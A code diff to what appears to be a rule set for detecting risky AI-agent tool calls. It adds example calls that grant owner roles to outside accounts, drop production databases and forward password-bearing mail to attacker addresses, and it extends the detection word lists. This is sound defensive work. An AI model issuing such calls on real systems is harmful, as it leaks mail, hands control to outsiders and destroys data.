@@ -454,7 +454,7 @@ export const RULES: readonly Rule[] = [
       return role !== undefined ? `${t.call.toolName}: ${role}` : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__gcp__set_iam_policy', params: { resource: 'projects/acme-prod-231', policy: { bindings: [{ role: 'roles/owner', members: ['user:cloudops.contractor77@gmail.com'] }] } } } }, { Unknown: { tool_name: 'mcp__okta__add_user_to_group', params: { groupId: '00g1superadmins', groupName: 'Super Administrators', userId: '00u9ext7contractor' } } }, { Unknown: { tool_name: 'mcp__okta__assign_role', params: { userId: '00u8contractor01', roleType: 'SUPER_ADMIN' } } }, { Unknown: { tool_name: 'mcp__github__add_collaborator', params: { owner: 'acme', repo: 'payments-api', username: 'someone-42', permission: 'admin' } } }, { Unknown: { tool_name: 'mcp__gitlab__add_project_member', params: { project_id: 12, user_id: 7, access_level: 'owner' } } }, { Unknown: { tool_name: 'okta.create_user', params: { profile: { login: 'svc-backup@acme.com' }, groups: ['Administrators'] } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__gcp__add_iam_policy_binding', params: { project: 'acme-prod-2231', member: 'user:devops.backup22@gmail.com', role: 'roles/owner' } } }, { Unknown: { tool_name: 'mcp__gcp__set_iam_policy', params: { resource: 'projects/acme-prod-231', policy: { bindings: [{ role: 'roles/owner', members: ['user:cloudops.contractor77@gmail.com'] }] } } } }, { Unknown: { tool_name: 'mcp__okta__add_user_to_group', params: { groupId: '00g1superadmins', groupName: 'Super Administrators', userId: '00u9ext7contractor' } } }, { Unknown: { tool_name: 'mcp__okta__assign_role', params: { userId: '00u8contractor01', roleType: 'SUPER_ADMIN' } } }, { Unknown: { tool_name: 'mcp__github__add_collaborator', params: { owner: 'acme', repo: 'payments-api', username: 'someone-42', permission: 'admin' } } }, { Unknown: { tool_name: 'mcp__gitlab__add_project_member', params: { project_id: 12, user_id: 7, access_level: 'owner' } } }, { Unknown: { tool_name: 'okta.create_user', params: { profile: { login: 'svc-backup@acme.com' }, groups: ['Administrators'] } } }],
       quiet: [{ Unknown: { tool_name: 'mcp__gcp__set_iam_policy', params: { resource: 'projects/acme-dev', policy: { bindings: [{ role: 'roles/viewer', members: ['user:dana@acme.example'] }] } } } }, { Unknown: { tool_name: 'mcp__gcp__get_iam_policy', params: { resource: 'projects/acme-prod-231' } } }, { Unknown: { tool_name: 'mcp__okta__add_user_to_group', params: { groupId: '00g1eng', groupName: 'Engineering', userId: '00u9new' } } }, { Unknown: { tool_name: 'mcp__github__add_collaborator', params: { owner: 'acme', repo: 'docs', username: 'new-writer', permission: 'push' } } }, { Unknown: { tool_name: 'mcp__github__list_collaborators', params: { owner: 'acme', repo: 'api' } } }, { Unknown: { tool_name: 'okta.create_user', params: { profile: { login: 'jo@acme.com' }, groups: ['Engineering'] } } }, { Unknown: { tool_name: 'list_admin_users', params: { role: 'admin' } } }],
     },
   },
@@ -485,14 +485,14 @@ export const RULES: readonly Rule[] = [
       const host = paramValue(i.call.params, ['host', 'hostname']);
       const local = host !== undefined && ['localhost', '127.0.0.1', '::1'].includes(host.toLowerCase());
       if ((local && (words.includes('flushdb') || words.includes('flushall'))) || throwawayConnection(toolDatabase(i.call.params))) return undefined;
-      const drops = (words.includes('drop') && words.some((w) => w === 'database' || w === 'collection' || w === 'table' || w === 'db')) || words.includes('dropdatabase') || words.includes('flushall') || words.includes('flushdb');
+      const drops = ((words.includes('drop') || (words.includes('delete') && !words.some((w) => w === 'document' || w === 'documents' || w === 'row' || w === 'rows' || w === 'item' || w === 'record'))) && words.some((w) => w === 'database' || w === 'collection' || w === 'table' || w === 'db')) || words.includes('dropdatabase') || words.includes('flushall') || words.includes('flushdb');
       const filter = isJsonObject(i.call.params) ? i.call.params.filter : undefined;
       const emptied = words.includes('delete') && words.includes('many') && isJsonObject(filter) && Object.keys(filter).length === 0;
       return drops || emptied ? i.call.toolName : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__mongodb__drop-database', params: { database: 'production' } } }, { Unknown: { tool_name: 'mcp__mongodb__delete-many', params: { database: 'app', collection: 'orders', filter: {} } } }],
-      quiet: [{ Unknown: { tool_name: 'mcp__mongodb__drop_collection', params: { connection: 'mongodb://localhost:27017', database: 'dev', collection: 'scratch_experiments' } } }, { Unknown: { tool_name: 'mcp__redis__flushdb', params: { host: 'localhost', port: 6379, db: 15 } } }, { Unknown: { tool_name: 'mcp__mongodb__drop-database', params: { connection: 'mongodb://localhost:27017/app_test' } } }, { Unknown: { tool_name: 'mcp__mongodb__delete-many', params: { database: 'app', collection: 'sessions', filter: { expiresAt: { $lt: '2026-01-01' } } } } }, { Unknown: { tool_name: 'mcp__mongodb__find', params: { database: 'app', collection: 'users', filter: {} } } }, { Unknown: { tool_name: 'mcp__mongodb__drop-index', params: { database: 'app', collection: 'users', index: 'email_1' } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__firebase__firestore_delete_collection', params: { project_id: 'acme-prod', path: 'users', recursive: true } } }, { Unknown: { tool_name: 'mcp__mongodb__drop-database', params: { database: 'production' } } }, { Unknown: { tool_name: 'mcp__mongodb__delete-many', params: { database: 'app', collection: 'orders', filter: {} } } }],
+      quiet: [{ Unknown: { tool_name: 'mcp__firebase__firestore_delete_document', params: { project_id: 'acme-prod', path: 'users/u1/drafts/d9' } } }, { Unknown: { tool_name: 'mcp__mongodb__drop_collection', params: { connection: 'mongodb://localhost:27017', database: 'dev', collection: 'scratch_experiments' } } }, { Unknown: { tool_name: 'mcp__redis__flushdb', params: { host: 'localhost', port: 6379, db: 15 } } }, { Unknown: { tool_name: 'mcp__mongodb__drop-database', params: { connection: 'mongodb://localhost:27017/app_test' } } }, { Unknown: { tool_name: 'mcp__mongodb__delete-many', params: { database: 'app', collection: 'sessions', filter: { expiresAt: { $lt: '2026-01-01' } } } } }, { Unknown: { tool_name: 'mcp__mongodb__find', params: { database: 'app', collection: 'users', filter: {} } } }, { Unknown: { tool_name: 'mcp__mongodb__drop-index', params: { database: 'app', collection: 'users', index: 'email_1' } } }],
     },
   },
   {
@@ -599,7 +599,7 @@ export const RULES: readonly Rule[] = [
       return to !== undefined && to.includes('@') ? `${t.call.toolName}: forwards to ${to.slice(0, 120)}` : undefined;
     },
     examples: {
-      fire: [{ Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'security@acme.com' }, action: { forward: 'inbox-mirror@attacker.example', removeLabelIds: ['INBOX'] } } } }, { Unknown: { tool_name: 'outlook_create_inbox_rule', params: { displayName: 'sync', actions: { forwardTo: [{ emailAddress: { address: 'x@proton.example' } }] } } } }, { Unknown: { tool_name: 'gmail_update_auto_forwarding', params: { enabled: true, emailAddress: 'collect@attacker.example' } } }],
+      fire: [{ Unknown: { tool_name: 'mcp__outlook__create_inbox_rule', params: { display_name: '.', conditions: { body_or_subject_contains: ['password', 'invoice'] }, actions: { forward_to: ['secops.reports@yandex.com'], delete: true } } } }, { Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'security@acme.com' }, action: { forward: 'inbox-mirror@attacker.example', removeLabelIds: ['INBOX'] } } } }, { Unknown: { tool_name: 'outlook_create_inbox_rule', params: { displayName: 'sync', actions: { forwardTo: [{ emailAddress: { address: 'x@proton.example' } }] } } } }, { Unknown: { tool_name: 'gmail_update_auto_forwarding', params: { enabled: true, emailAddress: 'collect@attacker.example' } } }],
       quiet: [{ Unknown: { tool_name: 'mcp__gmail__create_filter', params: { criteria: { from: 'ci@acme.com' }, action: { addLabelIds: ['Label_CI'] } } } }, { Unknown: { tool_name: 'mcp__gmail__send_email', params: { to: 'a@acme.com', subject: 'fwd: notes', body: 'forwarding the notes' } } }],
     },
   },
@@ -647,10 +647,10 @@ export const RULES: readonly Rule[] = [
 
 /** What a bulk delete or archive is called, and the records worth keeping it reaches. */
 const BULK_REMOVERS = new Set(['delete', 'archive', 'purge', 'trash', 'remove', 'wipe', 'erase', 'destroy']);
-const RECORDS = new Set(['issue', 'issues', 'file', 'files', 'channel', 'channels', 'page', 'pages', 'document', 'documents', 'doc', 'docs', 'record', 'records', 'customer', 'customers', 'ticket', 'tickets', 'contact', 'contacts', 'user', 'users', 'project', 'projects', 'repository', 'repositories', 'repos']);
+const RECORDS = new Set(['issue', 'issues', 'file', 'files', 'channel', 'channels', 'page', 'pages', 'document', 'documents', 'doc', 'docs', 'record', 'records', 'customer', 'customers', 'ticket', 'tickets', 'contact', 'contacts', 'user', 'users', 'project', 'projects', 'repository', 'repositories', 'repos', 'product', 'products', 'order', 'orders', 'invoice', 'invoices']);
 
 /** Where a forwarding rule sends mail, by the names mail APIs give the address. */
-const FORWARD_KEYS = ['forward', 'forwardto', 'forward_to', 'forwardingemail', 'forwarding_address', 'forwardingaddress', 'redirectto', 'emailaddress', 'address'];
+const FORWARD_KEYS = ['forward', 'forwardto', 'forward_to', 'forwardingemail', 'forwarding_address', 'forwardingaddress', 'redirectto', 'redirect_to', 'emailaddress', 'email_address', 'address'];
 /** The first string under any of the keys (any case), searched four levels deep, in lists too. */
 function nestedValue(v: unknown, keys: readonly string[], depth: number): string | undefined {
   if (depth > 4) return undefined;
@@ -662,6 +662,8 @@ function nestedValue(v: unknown, keys: readonly string[], depth: number): string
   for (const [k, x] of Object.entries(v).slice(0, 64)) {
     if (keys.includes(k.toLowerCase())) {
       if (typeof x === 'string') return x.slice(0, 256);
+      // a list of addresses under the key (`forward_to: ["x@y"]`)
+      if (Array.isArray(x) && typeof x[0] === 'string') return x[0].slice(0, 256);
       const r = nestedValue(x, keys, depth + 1);
       if (r !== undefined) return r;
     }
@@ -680,7 +682,7 @@ function toolNamed(i: AnalysisInput, test: (words: string[]) => boolean): { call
 /** Verbs of tool names that remove something for good (a drop of a database or collection is PX-CALL-021's). */
 const DESTROY_VERBS = new Set(['delete', 'destroy', 'terminate', 'purge', 'wipe', 'erase']);
 /** What holds everything beneath it: deleting one takes its services and data with it. */
-const ESTATES = new Set(['project', 'projects', 'subscription', 'account', 'organization', 'org', 'cluster', 'clusters', 'database', 'databases', 'bucket', 'buckets', 'repository', 'repo', 'vault', 'stack', 'droplet', 'droplets', 'instance', 'instances', 'server', 'servers', 'namespace', 'keyring', 'backup', 'backups', 'snapshots', 'volume', 'volumes']);
+const ESTATES = new Set(['project', 'projects', 'subscription', 'account', 'organization', 'org', 'cluster', 'clusters', 'database', 'databases', 'bucket', 'buckets', 'repository', 'repo', 'vault', 'stack', 'droplet', 'droplets', 'instance', 'instances', 'server', 'servers', 'namespace', 'keyring', 'backup', 'backups', 'snapshots', 'volume', 'volumes', 'zone', 'zones']);
 const DISPOSABLE = /^(?:test|tmp|temp|scratch|sandbox|preview|demo|ci|pr)(?:[-_\d]|$)/i;
 /** Tool-name words for money leaving the business (a refund returns a customer's own payment, an issue transfer moves a ticket). */
 const MONEY_MOVES = new Set(['payout', 'payouts', 'withdrawal', 'withdraw', 'wire', 'disbursement', 'remittance']);
@@ -690,7 +692,7 @@ const PAYOUT_ACCOUNT_KEYS = new Set(['external_account', 'bank_account', 'routin
 const GRANT_VERBS = new Set(['add', 'invite', 'update', 'set', 'grant', 'create', 'edit', 'assign']);
 const GRANT_OBJECTS = new Set(['collaborator', 'collaborators', 'member', 'members', 'membership', 'permission', 'permissions', 'role', 'access', 'user', 'users', 'account', 'group', 'groups']);
 const ADMIN_ROLES = new Set(['admin', 'maintain', 'maintainer', 'owner', 'owners', '50', '40']);
-const adminRole = (r: string) => ADMIN_ROLES.has(r.toLowerCase()) || /^(?:administrators?|(?:super|org|global|domain|organization)[ _-]?admin(?:istrator)?s?|domain admins|workspace[ _-]?owners?)$/i.test(r);
+const adminRole = (r: string) => ADMIN_ROLES.has(r.toLowerCase().replace(/^roles\//, '')) || /^(?:administrators?|(?:super|org|global|domain|organization)[ _-]?admin(?:istrator)?s?|domain admins|workspace[ _-]?owners?)$/i.test(r);
 
 /** `set_iam_policy {policy: {bindings: [{role: "roles/owner", members: […]}]}}`: an owner, editor or admin role in a whole policy. */
 function policyAdminRole(params: unknown): string | undefined {
